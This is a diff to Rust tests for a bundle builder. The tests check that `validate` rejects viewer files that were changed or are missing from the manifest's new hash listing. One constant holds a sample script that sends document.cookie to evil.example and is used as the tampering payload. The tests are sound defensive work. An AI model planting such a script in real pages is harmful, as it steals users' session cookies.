@@ -1,6 +1,7 @@
 //! The reference viewer shipped in every bundle: exactly `index.html` and `viewer/` of
-//! viewers/reference-html/ (its zstd decoder, fzstd.js, included), byte for byte; left out by
-//! `--no-viewer`.
+//! viewers/reference-html/ (its zstd decoder, fzstd.js, included), byte for byte, listed with
+//! size and blake3 in `manifest.viewer`; left out by `--no-viewer`. `validate` refuses a viewer
+//! file that changed or that the manifest does not list.
 
 use std::path::Path;
 
@@ -41,9 +42,20 @@ fn every_bundle_ships_the_viewer_byte_for_byte_and_validate_accepts_it() {
     for f in &expected {
         assert_eq!(std::fs::read(out.join(f)).unwrap(), std::fs::read(source.join(f)).unwrap(), "{f} differs");
     }
-    // The viewer is not part of the format: the manifest does not list it.
-    let manifest = std::fs::read_to_string(out.join("manifest.json")).unwrap();
-    assert!(!manifest.contains("\"index.html\"") && !manifest.contains("viewer/"));
+    // The manifest lists exactly these files under `viewer`, with their size and hash, and
+    // none of them under the format's `files`.
+    let manifest: serde_json::Value =
+        serde_json::from_slice(&std::fs::read(out.join("manifest.json")).unwrap()).unwrap();
+    let listed: Vec<&str> =
+        manifest["viewer"].as_array().unwrap().iter().map(|f| f["path"].as_str().unwrap()).collect();
+    assert_eq!(listed, expected);
+    for f in manifest["viewer"].as_array().unwrap() {
+        let bytes = std::fs::read(out.join(f["path"].as_str().unwrap())).unwrap();
+        assert_eq!(f["size"], bytes.len() as u64, "{f}");
+        assert_eq!(f["blake3"], blake3::hash(&bytes).to_hex().as_str(), "{f}");
+    }
+    let files = manifest["files"].as_array().unwrap();
+    assert!(files.iter().all(|f| !tlparse_build::viewer::is_viewer_path(f["path"].as_str().unwrap())));
 }
 
 #[test]
@@ -55,6 +67,53 @@ fn no_viewer_leaves_it_out() {
     assert_valid(&out);
     assert!(!out.join("index.html").exists());
     assert!(!out.join("viewer").exists());
+    let manifest: serde_json::Value =
+        serde_json::from_slice(&std::fs::read(out.join("manifest.json")).unwrap()).unwrap();
+    assert_eq!(manifest["viewer"], serde_json::Value::Null);
+}
+
+/// Builds simple.log into a fresh directory (with `extra` arguments) and returns the bundle.
+fn build_simple(dir: &Path, extra: &[&str]) -> std::path::PathBuf {
+    let out = dir.join("b");
+    let mut args = vec![fixture("tlparse-tests/simple.log").to_string(), "-o".into(), out.display().to_string()];
+    args.extend(extra.iter().map(|a| a.to_string()));
+    let o = run(&args.iter().map(String::as_str).collect::<Vec<_>>());
+    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
+    out
+}
+
+/// Runs `tlparse-build validate` on `bundle`, expecting exit 1 (problems found); returns them.
+fn validate_fails(bundle: &Path) -> String {
+    let o = run(&["validate", bundle.to_str().unwrap()]);
+    let report = String::from_utf8_lossy(&o.stdout).to_string() + &String::from_utf8_lossy(&o.stderr);
+    assert_eq!(o.status.code(), Some(1), "{report}");
+    report
+}
+
+const TROJAN: &str = "<script>fetch('https://evil.example/?' + document.cookie)</script>\n";
+
+#[test]
+fn validate_refuses_a_trojaned_index_html() {
+    let dir = tempfile::tempdir().unwrap();
+    let out = build_simple(dir.path(), &[]);
+    std::fs::write(out.join("index.html"), TROJAN).unwrap();
+    let report = validate_fails(&out);
+    assert!(report.contains("index.html: viewer file changed since the build"), "{report}");
+}
+
+#[test]
+fn validate_refuses_an_added_viewer_file_with_or_without_a_viewer() {
+    let dir = tempfile::tempdir().unwrap();
+    let out = build_simple(dir.path(), &[]);
+    std::fs::write(out.join("viewer/evil.html"), TROJAN).unwrap();
+    let report = validate_fails(&out);
+    assert!(report.contains("viewer/evil.html: viewer file is not listed in manifest.json"), "{report}");
+
+    let bare = build_simple(&dir.path().join("bare"), &["--no-viewer"]);
+    std::fs::write(bare.join("index.html"), TROJAN).unwrap();
+    let report = validate_fails(&bare);
+    assert!(report.contains("index.html: viewer file is not listed in manifest.json"), "{report}");
+    assert!(report.contains("ships no viewer"), "{report}");
 }
 
 #[test]
